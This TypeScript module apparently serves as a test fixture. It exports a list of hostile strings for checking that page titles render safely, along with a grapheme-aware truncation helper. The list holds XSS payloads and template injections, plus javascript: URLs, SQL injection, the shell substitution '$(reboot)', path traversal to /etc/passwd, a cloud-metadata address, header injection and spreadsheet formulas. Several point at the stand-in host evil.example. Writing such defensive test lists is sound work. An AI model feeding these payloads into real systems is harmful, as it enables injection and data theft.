/** What a page calls when a hostile string has become a script: tests listen for it. */
export const alarm = 'hostileAlarm()';

const zalgo = `Z${'\u0335\u0300\u0301\u0302\u0303\u0304\u0306\u0307'.repeat(12)}algo`;

/** Strings that have broken pages elsewhere: markup, scripts, addresses, templates, other alphabets, directions, lengths. Each fits a title of 60 characters once cut. */
export const hostileStrings: readonly string[] = [
  // Markup that runs where text becomes HTML.
  `<script>${alarm}</script>`, `<img src=x onerror=${alarm}>`, `<svg/onload=${alarm}>`, `"><script>${alarm}</script>`, `'><img src=x onerror=${alarm}>`, `</title><script>${alarm}</script>`,
  `</textarea><script>${alarm}</script>`, `<iframe srcdoc="<script>${alarm}</script>">`, `<details open ontoggle=${alarm}>`, `<body onload=${alarm}>`, `<math><mi//xlink:href="data:x,<script>${alarm}">`,
  `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><input name=password>`,
  `<template><script>${alarm}</script></template>`, `<ck-form action=//evil.example operation=x>`, `<choku-talk service-id="x">`, `--><script>${alarm}</script><!--`, `]]><script>${alarm}</script>`, `<?xml version="1.0"?><x/>`,
  // Out of an attribute, a JSON block, a template, a style.
  `" onmouseover="${alarm}`, `' onfocus='${alarm}' autofocus='`, '` onclick=x', `{{constructor.constructor('${alarm}')()}}`, '${7*7}', '<%= 7*7 %>', `</script><script>${alarm}</script>`, '\\u003cscript\\u003e', '&lt;script&gt;&#60;b&#62;&amp;', ';}*{background:url(//evil.example)}',
  // Addresses.
  `javascript:${alarm}`, `JaVaScRiPt:${alarm}//https://x.example`, 'data:text/html,<script>1</script>', 'https://user@evil.example/%0d%0aSet-Cookie:x', '//evil.example/a', 'http://169.254.169.254/latest/', `[x](javascript:${alarm})`,
  // Databases, shells, spreadsheets, headers.
  "'; DROP TABLE user; --", '" OR ""="', '$(reboot)`id`', '=HYPERLINK("//evil.example")', '+81-3-0000', 'a\r\nBcc: everybody@evil.example', '../../../../etc/passwd', '%s%n%x{0}',
  // Alphabets, directions, widths, lengths.
  '\u202egnp.txt\u202c', '\u2066abc\u2069\u200b\u200d\ufeff', 'مرحبا بالعالم שלום', zalgo, '👨‍👩‍👧‍👦🏳️‍🌈'.repeat(6), 'W'.repeat(60), '　'.repeat(8), '𠮷野家𩸽', 'ﷺ﷽'.repeat(10), 'ｱｲｳｴｵ①②㍿㌔', '\u0000\u0007\u001b[31m', 'null', 'undefined', '[object Object]', '__proto__', 'constructor', '1e309',
];

/** The first so many characters of a string, as people count them. */
export function firstOf(text: string, most: number): string {
  return [...new Intl.Segmenter('ja', { granularity: 'grapheme' }).segment(text)].slice(0, most).map(({ segment }) => segment).join('');
}
